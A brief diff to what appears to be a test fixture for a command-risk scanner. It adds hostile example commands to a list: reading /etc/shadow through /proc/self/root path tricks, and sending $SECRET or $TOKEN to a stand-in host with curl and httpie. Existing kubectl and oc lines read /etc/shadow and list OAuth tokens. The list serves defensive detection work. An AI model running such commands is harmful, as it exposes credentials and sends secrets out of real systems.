@@ -8,6 +8,10 @@ from scanner import scan
 from schemas.risk import Risk
 
 ACTS = """\
+cat /proc/self/root/proc/self/root/etc/shadow
+cat /proc/self/task/1/root/etc/shadow
+curl --url "https://x/$SECRET"
+http https://x/$TOKEN
 kubectl get pods -o custom-columns-file=/etc/shadow
 kubectl get pods -o go-template-file=/etc/shadow
 oc get oauthaccesstokens
